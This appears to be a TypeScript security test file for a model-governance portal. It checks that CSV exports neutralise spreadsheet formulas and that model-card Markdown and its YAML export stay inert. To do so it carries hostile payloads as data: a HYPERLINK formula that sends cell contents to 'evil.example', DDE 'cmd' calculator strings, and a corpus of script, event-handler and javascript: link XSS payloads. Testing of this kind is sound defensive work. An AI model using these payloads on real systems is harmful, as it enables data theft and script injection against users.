/**
 * Injection through exports, against the real production server.
 *
 * CSV: formulas typed into every user-controlled field that an export
 * carries (audit-log actor, bias-audit group names, assessment reasons and
 * evidence notes and their authors, roadmap evidence, team and owner) never
 * reach a spreadsheet as formulas: in EVERY CSV export no cell starts with
 * = + - @ tab or CR unless it is a number, and each injected value is there,
 * neutralised with a leading apostrophe. A property does the same with
 * generated formula-like values.
 *
 * Markdown: model-card sections full of script, HTML, event handlers and
 * javascript:/data:/vbscript: links render as text on the card page and the
 * revision comparison (links only for http, https and mailto), and the
 * Markdown export's YAML front matter cannot be broken out of.
 */
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../setup/readers";
import { acquirePortalBuild, killAllPortals } from "../setup/portal-server";
import { send, type Reply } from "../setup/api-client";
import { joinByInvitation } from "../setup/invitations";
import { signIn } from "../setup/sign-in";
import {
  apiJson,
  checkEachTestLeavesTheServerSound,
  FUZZ_SEED,
  fuzzRuns,
  hostileString,
  startHostileEnv,
  type HostileEnv,
} from "./hostile-fixtures";

let env: HostileEnv;
let releaseBuild = () => {};

const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i;
/** An email that is valid (and so becomes an audit actor, a note author, an item owner) and starts like a formula. */
const FORMULA_EMAIL = "-2+3@evil.example";
const FORMULA_PASSWORD = "Formula-Passw0rd!";

/** Values a spreadsheet would run, one per injection point. */
const PAYLOADS = {
  reason: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  note: "@SUM(A1:A9)",
  uiNote: "+cmd|' /C calc'!A0",
  evidence: "-2+3+cmd|' /C calc'!A0",
  team: "=1+1",
  groups: ["=cmd|' /C calc'!A0", "+SUM(1,2)", "@x", "-1", "=A1"],
};

const ids = { draftAssessment: 0, roadmap: 0, item: 0, biasAudit: 0 };
let formulaCookie = "";

const api = (method: string, path: string, body?: unknown) => apiJson(env, method, path, body);

async function postForm(cookie: string, pagePath: string, fields: Record<string, string>): Promise<Reply> {
  const reply = await send(env.server.baseUrl, pagePath, { method: "POST", headers: { cookie }, body: new URLSearchParams(fields) });
  expect(reply.status, `POST ${pagePath}: ${reply.text.slice(0, 300)}`).toBeLessThan(400);
  return reply;
}

async function download(pagePath: string, cookie = env.cookies.auditor): Promise<string[][]> {
  const reply = await send(env.server.baseUrl, pagePath, { headers: { cookie } });
  expect(reply.status, `GET ${pagePath}: ${reply.text.slice(0, 300)}`).toBe(200);
  expect(reply.contentType).toMatch(/text\/csv/);
  return parseCsv(reply.text);
}

/** No cell of the export starts like a formula, unless it is a plain number. */
function expectNoFormulaCells(rows: string[][], what: string): void {
  const offending = rows
    .flatMap((row, r) => row.map((cell, c) => ({ r, c, cell })))
    .filter(({ cell }) => FORMULA_START.test(cell) && !NUMBER.test(cell));
  expect(offending, `${what}: cells a spreadsheet would run`).toEqual([]);
}

/** How the CSV writer neutralises a stored value. */
const neutralised = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);

const EXPORTS = () => ({
  "audit log": "/orgs/demo/audit.csv",
  "bias audit": `/orgs/demo/bias-audits/${ids.biasAudit}.csv`,
  "assessment responses": `/orgs/demo/assessments/${ids.draftAssessment}.csv`,
  roadmap: `/orgs/demo/roadmaps/${ids.roadmap}/export/csv`,
});

beforeAll(async () => {
  const build = acquirePortalBuild();
  releaseBuild = build.release;
  env = await startHostileEnv(build.buildDir, "portal-export-injection-");

  // A member whose email starts like a formula: an audit actor, a note author, an item owner.
  await joinByInvitation(env.server.baseUrl, env.cookies.admin, "demo", {
    email: FORMULA_EMAIL,
    name: "=Formula Person",
    password: FORMULA_PASSWORD,
    role: "team",
  });
  formulaCookie = (await signIn(env.server.baseUrl, FORMULA_EMAIL, FORMULA_PASSWORD)).cookie;

  const assessments = (await api("GET", "/assessments")).assessments as Array<{ id: number; status: string }>;
  ids.draftAssessment = assessments.find((a) => a.status === "draft")!.id;
  const framework = await api("GET", "/framework");
  const component = framework.components[0];
  await api("PUT", `/assessments/${ids.draftAssessment}/responses`, {
    capabilities: [
      { id: component.capabilities[0].id, status: "not_applicable", reason: PAYLOADS.reason, evidence: { note: PAYLOADS.note } },
    ],
    questions: [{ id: framework.questions[0].id, level: 2, note: PAYLOADS.team }],
  });
  await postForm(formulaCookie, `/orgs/demo/assessments/${ids.draftAssessment}/components/${component.id}`, {
    intent: "add-note",
    statementId: component.capabilities[1].id,
    body: PAYLOADS.uiNote,
  });

  ids.roadmap = env.db
    .prepare("select id from roadmaps where org_id = ? and status = 'active' order by id desc")
    .pluck()
    .get(env.orgId) as number;
  ids.item = env.db
    .prepare("select id from roadmap_items where roadmap_id = ? and status <> 'closed' order by id")
    .pluck()
    .get(ids.roadmap) as number;
  await api("PATCH", `/roadmap-items/${ids.item}`, { evidence: PAYLOADS.evidence, team: PAYLOADS.team, ownerEmail: FORMULA_EMAIL });
  // The formula member changes something in the UI, so the audit log has them as the actor.
  await postForm(formulaCookie, `/orgs/demo/roadmaps/${ids.roadmap}/items/${ids.item}`, { intent: "comment", body: PAYLOADS.uiNote });

  await api("POST", "/models", { name: "Injection target", slug: "injection-target", riskTier: "limited" });
  await api("POST", "/models/injection-target/versions", { version: "1.0.0" });
  const audit = await api("POST", "/models/injection-target/versions/1.0.0/bias-audits", {
    config: {
      groupColumns: ["g"],
      labelColumn: "y",
      positiveLabels: ["1"],
      predictionColumn: "p",
      positivePredictions: ["1"],
      minGroupSize: 1,
    },
    rows: PAYLOADS.groups.flatMap((g) => [
      { g, y: "1", p: "1" },
      { g, y: "0", p: "1" },
      { g: `\t${g}`, y: "1", p: "0" },
    ]),
  });
  ids.biasAudit = audit.id;
}, 240_000);

checkEachTestLeavesTheServerSound(() => env);

afterAll(async () => {
  await env?.stop();
  killAllPortals();
  releaseBuild();
});

describe("CSV exports neutralise formulas", () => {
  it("every CSV export: no cell starts with = + - @ tab or CR unless it is a number", async () => {
    for (const [what, path] of Object.entries(EXPORTS())) expectNoFormulaCells(await download(path), what);
  });

  it("audit log: the formula-like actor is exported, neutralised", async () => {
    const rows = await download(EXPORTS()["audit log"]);
    const actor = rows[0]!.indexOf("actor");
    expect(rows.filter((r) => r[actor] === neutralised(FORMULA_EMAIL)).length).toBeGreaterThan(0);
    expect(rows.some((r) => r[actor] === FORMULA_EMAIL)).toBe(false);
  });

  it("bias audit: formula group names are exported, neutralised", async () => {
    const rows = await download(EXPORTS()["bias audit"]);
    const groups = rows.slice(1).map((r) => r[0]);
    for (const group of PAYLOADS.groups) expect(groups).toContain(neutralised(group));
  });

  it("assessment responses: reasons, evidence notes and their authors are exported, neutralised", async () => {
    const cells = (await download(EXPORTS()["assessment responses"])).flat();
    for (const value of [PAYLOADS.reason, PAYLOADS.note, PAYLOADS.team, PAYLOADS.uiNote, FORMULA_EMAIL])
      expect(cells).toContain(neutralised(value));
  });

  it("roadmap: evidence, team and owner are exported, neutralised", async () => {
    const rows = await download(EXPORTS().roadmap);
    const header = rows[0]!;
    const row = rows.find((r) => r[header.indexOf("evidence")] === neutralised(PAYLOADS.evidence));
    expect(row, JSON.stringify(rows.slice(0, 3))).toBeDefined();
    expect(row![header.indexOf("team")]).toBe(neutralised(PAYLOADS.team));
    expect(row![header.indexOf("owner")]).toBe(neutralised(FORMULA_EMAIL));
  });

  it("property: whatever formula-like text is stored, the roadmap and assessment exports carry it neutralised", async () => {
    const formula = fc
      .tuple(
        fc.constantFrom("=", "+", "-", "@", "\t=", "\r=", " =", "=="),
        hostileString.filter((s) => s.length < 500),
      )
      .map(([start, rest]) => start + rest);
    const framework = await api("GET", "/framework");
    const statementId = framework.components[0].capabilities[2].id as string;
    // An item of its own: the roadmap test reads the evidence the setup stored on ids.item.
    const itemId = env.db
      .prepare("select id from roadmap_items where roadmap_id = ? and status <> 'closed' and id <> ? order by id")
      .pluck()
      .get(ids.roadmap, ids.item) as number;
    await fc.assert(
      fc.asyncProperty(formula, formula, async (evidence, reason) => {
        const item = await send(env.server.baseUrl, `/api/v1/roadmap-items/${itemId}`, {
          method: "PATCH",
          headers: { authorization: `Bearer ${env.token}`, "content-type": "application/json" },
          body: JSON.stringify({ evidence }),
        });
        const response = await send(env.server.baseUrl, `/api/v1/assessments/${ids.draftAssessment}/responses`, {
          method: "PUT",
          headers: { authorization: `Bearer ${env.token}`, "content-type": "application/json" },
          body: JSON.stringify({ capabilities: [{ id: statementId, status: "not_applicable", reason }] }),
        });
        expect(item.status, item.text).toBeLessThan(500);
        expect(response.status, response.text).toBeLessThan(500);
        const roadmap = await download(EXPORTS().roadmap);
        const assessment = await download(EXPORTS()["assessment responses"]);
        expectNoFormulaCells(roadmap, "roadmap");
        expectNoFormulaCells(assessment, "assessment responses");
        // What was stored (trimmed, as the API stores it) is exported exactly, neutralised.
        if (item.status === 200) {
          const stored = env.db.prepare("select evidence from roadmap_items where id = ?").pluck().get(itemId) as string | null;
          const header = roadmap[0]!;
          if (stored) expect(roadmap.map((r) => r[header.indexOf("evidence")])).toContain(neutralised(stored));
        }
        if (response.status === 200) {
          const stored = env.db
            .prepare("select reason from assessment_statements where assessment_id = ? and statement_id = ?")
            .pluck()
            .get(ids.draftAssessment, statementId) as string | null;
          if (stored) expect(assessment.flat()).toContain(neutralised(stored));
        }
      }),
      { seed: FUZZ_SEED, numRuns: fuzzRuns(25), endOnFailure: !process.env.HOSTILE_SHRINK },
    );
    for (const [what, path] of Object.entries(EXPORTS())) expectNoFormulaCells(await download(path), what);
  }, 180_000);
});

/* ------------------------------------------------------------------ */
/* Markdown in model cards                                             */
/* ------------------------------------------------------------------ */

/** Each payload carries a marker, so the test can find where its text ended up. */
const XSS_CORPUS = [
  "<script>alert('XSS-1')</script>",
  "<img src=x onerror=alert('XSS-2')>",
  "[click XSS-3](javascript:alert(1))",
  "[click XSS-4](JaVaScRiPt:alert(1))",
  "[click XSS-5](&#106;avascript:alert(1))",
  "[click XSS-6](java\tscript:alert(1))",
  "[click XSS-7]( javascript:alert(1))",
  '[click XSS-8](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "t")',
  "![XSS-9](javascript:alert(1))",
  "<a href=\"javascript:alert('XSS-10')\">x</a>",
  '[XSS-11](https://example.com" onmouseover="alert(1))',
  "<svg onload=alert('XSS-12')>",
  "<iframe src=\"javascript:alert('XSS-13')\"></iframe>",
  "[XSS-14](vbscript:msgbox(1))",
  '<https://example.com/XSS-15"onmouseover="alert(1)>',
  "[XSS-16](//evil.example/x)",
  "`<script>XSS-17</script>`",
  "```html\n<script>XSS-18</script>\n```",
  "| <b>XSS-19</b> | [x](javascript:alert(19)) |\n|---|---|\n| <i>c</i> | d |",
  "<style>body{background:url(\"javascript:alert('XSS-20')\")}</style>",
  "</textarea></code></pre><script>XSS-21</script>",
  "[XSS-22](<javascript:alert(1)>)",
  "[XSS-23](mailto:someone@example.com)",
  "[XSS-24](https://example.com/ok)",
  "<XSS-25 onclick=alert(1)>**bold**</XSS-25>",
  "[XSS-26](javascript&colon;alert(1))",
  "[XSS-27](\u0000javascript:alert(1))",
  "[XSS-28](https:javascript:alert(1))",
];

const CARD = "/orgs/demo/models/injection-target/versions/1.0.0/card";

/** The href of every link in the page, entities decoded. */
function hrefs(html: string): string[] {
  return [...html.matchAll(/<a\b[^>]*?\bhref="([^"]*)"/gi)].map((m) =>
    m[1]!
      .replace(/&amp;/g, "&")
      .replace(/&quot;/g, '"')
      .replace(/&#x27;/g, "'"),
  );
}

function expectInert(page: string, what: string): void {
  // Only the app's own scripts (they carry the CSP nonce). The ones holding card text as
  // hydration data have it escaped: no "<" in them, so nothing can close the script early.
  const scripts = [...page.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
  for (const [, attributes, content] of scripts) {
    expect(attributes, `${what}: a script without the nonce`).toMatch(/\bnonce="/);
    if (/XSS-|alert\(/.test(content!)) expect(content, `${what}: card text in a script, unescaped`).not.toContain("<");
  }
  // The rest of the page: what the browser builds elements from.
  const html = page.replace(/<script\b[^>]*>[\s\S]*?<\/script>/gi, "");
  expect(html, `${what}: a script element from the card`).not.toMatch(/<script\b/i);
  // No element that came from the card: a tag holding a marker, or any of the dangerous tags.
  // (An http(s) link may carry card text in its href, quotes encoded: that is its address, not markup.)
  const fromCard = (html.match(/<[a-z][^>]*XSS-\d+[^>]*>/gi) ?? []).filter(
    (tag) => !/^<a href="https?:\/\/[^"<>]*" rel="noopener noreferrer nofollow">$/.test(tag),
  );
  expect(fromCard, `${what}: a tag built from card text`).toEqual([]);
  expect(html, `${what}: a dangerous element`).not.toMatch(/<(iframe|img|svg|object|embed|style|textarea|xss-)\b/i);
  expect(html, `${what}: an inline event handler`).not.toMatch(/<[^>]+\son[a-z]+\s*=/i);
  for (const href of hrefs(html)) expect(href, `${what}: link target`).toMatch(/^(\/|#|\?|https?:\/\/[^/\\]|mailto:)/i);
}

describe("Markdown in model cards cannot inject script, HTML or javascript: links", () => {
  const sections = (texts: string[]) => ({
    modelDetails: texts.join("\n\n"),
    intendedUse: texts.slice().reverse().join("\n"),
    outOfScopeUses: texts.map((t) => `- ${t}`).join("\n"),
    factors: texts.map((t) => `> ${t}`).join("\n"),
    metrics: `| a | b |\n|---|---|\n${texts.map((t) => `| ${t.replace(/\n/g, " ")} | x |`).join("\n")}`,
    evaluationData: texts.map((t) => `# ${t.replace(/\n/g, " ")}`).join("\n"),
    trainingData: texts.map((t) => `**${t}** _${t}_`).join("\n\n"),
    quantitativeAnalyses: "",
    ethicalConsiderations: texts.join(" "),
    caveatsAndRecommendations: texts.map((t, i) => `${i + 1}. ${t}`).join("\n"),
  });

  async function saveCard(fields: Record<string, string>): Promise<void> {
    const reply = await send(env.server.baseUrl, `${CARD}/edit`, {
      method: "POST",
      headers: { cookie: env.cookies.team },
      body: new URLSearchParams(fields),
    });
    expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(400);
  }

  async function page(pagePath: string): Promise<string> {
    const reply = await send(env.server.baseUrl, pagePath, { headers: { cookie: env.cookies.ethics } });
    expect(reply.status, `GET ${pagePath}`).toBe(200);
    return reply.text;
  }

  it("the card page and the revision comparison render the XSS corpus as text", async () => {
    await saveCard(sections(XSS_CORPUS));
    const html = await page(CARD);
    expectInert(html, "card page");
    // The payloads are there, as text.
    expect(html).toContain("&lt;script&gt;alert(&#x27;XSS-1&#x27;)&lt;/script&gt;");
    expect(html).toMatch(/click XSS-3/);
    // Allowed links stay links.
    expect(hrefs(html)).toEqual(expect.arrayContaining(["https://example.com/ok", "mailto:someone@example.com"]));
    // A second revision, so the comparison has two sides to render.
    await saveCard({ ...sections(XSS_CORPUS.slice(0, 10)), quantitativeAnalyses: XSS_CORPUS.join("\n") });
    expectInert(await page(`${CARD}/compare`), "revision comparison");
  });

  it("property: generated Markdown of links, tags and hostile text stays inert", async () => {
    const url = fc.oneof(
      fc.constantFrom(
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:x",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example",
        "https://ok.example/p",
        "mailto:a@b.example",
        "java\nscript:x",
        "&#x6A;avascript:x",
      ),
      hostileString.filter((s) => s.length < 200),
    );
    const fragment = fc.oneof(
      fc
        .tuple(
          hostileString.filter((s) => s.length < 200),
          url,
        )
        .map(([text, href]) => `[${text}](${href})`),
      fc
        .tuple(
          hostileString.filter((s) => s.length < 200),
          url,
        )
        .map(([text, href]) => `![${text}](${href})`),
      url.map((href) => `<${href}>`),
      fc.constantFrom(
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:x'>",
        "<svg/onload=alert(1)>",
        '"><script>alert(1)</script>',
        "`",
        "```",
        "|",
        "*",
        "_",
        "[",
        "]",
        "(",
        ")",
        "\\",
      ),
      hostileString.filter((s) => s.length < 300),
    );
    const markdown = fc.array(fragment, { minLength: 1, maxLength: 12 }).map((parts) => parts.join(" ").slice(0, 19_000));
    await fc.assert(
      fc.asyncProperty(markdown, markdown, async (a, b) => {
        await saveCard({ modelDetails: a, intendedUse: b, metrics: `| ${a.replace(/\n/g, " ")} |\n|---|\n| ${b.replace(/\n/g, " ")} |` });
        const html = await page(CARD);
        expectInert(html.replace(/XSS-/g, "xss_"), "card page");
        for (const href of hrefs(html)) expect(href).not.toMatch(/^\s*(javascript|data|vbscript):/i);
      }),
      { seed: FUZZ_SEED, numRuns: fuzzRuns(25), endOnFailure: !process.env.HOSTILE_SHRINK },
    );
  }, 180_000);

  it("the Markdown export keeps its YAML front matter intact whatever the model's name, tags and sections hold", async () => {
    // Names cannot hold line breaks any more (a model card name could inject headings and keys): refused with 422.
    const multiLine = await send(env.server.baseUrl, "/api/v1/models", {
      method: "POST",
      headers: { authorization: `Bearer ${env.token}`, "content-type": "application/json" },
      body: JSON.stringify({ name: 'Evil\n---\nowner_team: "pwned"', slug: "yaml-refused", riskTier: "minimal" }),
    });
    expect(multiLine.status).toBe(422);
    await api("POST", "/models", {
      name: 'Evil --- owner_team: "pwned" # <script>x</script>',
      slug: "yaml-target",
      riskTier: "minimal",
      tags: ["ok", "a-b"],
    });
    await api("POST", "/models/yaml-target/versions", { version: "1.0.0", framework: 'x" --- y: 1', algorithm: "'; --" });
    const card = "/orgs/demo/models/yaml-target/versions/1.0.0/card";
    const saved = await send(env.server.baseUrl, `${card}/edit`, {
      method: "POST",
      headers: { cookie: env.cookies.team },
      body: new URLSearchParams({ modelDetails: "---\nowner_team: pwned\n---\n<script>alert(1)</script>" }),
    });
    expect(saved.status).toBeLessThan(400);
    const reply = await send(env.server.baseUrl, `${card}.md`, { headers: { cookie: env.cookies.auditor } });
    expect(reply.status).toBe(200);
    expect(reply.contentType).toMatch(/text\/markdown/);
    expect(reply.headers.get("content-disposition")).toMatch(/^attachment/);
    const lines = reply.text.split("\n");
    expect(lines[0]).toBe("---");
    const end = lines.indexOf("---", 1);
    const front = lines.slice(1, end);
    // Every front-matter line is one of the exporter's keys (or a list item under one): nothing injected.
    for (const line of front)
      expect(line).toMatch(
        /^(model_name|model_id|version|library_name|model_type|tags|risk_tier|owner_team|card_revision|card_status|approved_by|updated|model-index): |^tags: \[\]$|^tags:$|^ {2}- |^ {4}|^ {6}|^ {10}/,
      );
    // The hostile name, framework and algorithm each stay one quoted scalar on their own line.
    expect(front.filter((l) => l.startsWith("owner_team:"))).toHaveLength(1);
    expect(front.filter((l) => !l.startsWith("model_name:")).join("\n")).not.toContain("pwned");
    expect(front.find((l) => l.startsWith("model_name:"))).toBe(
      `model_name: ${JSON.stringify('Evil --- owner_team: "pwned" # <script>x</script>')}`,
    );
    expect(front.find((l) => l.startsWith("library_name:"))).toBe(`library_name: ${JSON.stringify('x" --- y: 1')}`);
    // In the title the name is text: no HTML, no heading of its own.
    expect(lines).toContain('# Model card: Evil --- owner\\_team: "pwned" \\# \\<script\\>x\\</script\\> 1.0.0');
    // The section's own "---" lines are in the body, after the front matter, written back as the card shows them: no raw HTML.
    const body = lines.slice(end + 1).join("\n");
    expect(body).toContain("owner\\_team: pwned");
    expect(body).toContain("\\<script\\>alert(1)\\</script\\>");
    expect(body).not.toMatch(/(^|[^\\])<script/);
  });
});
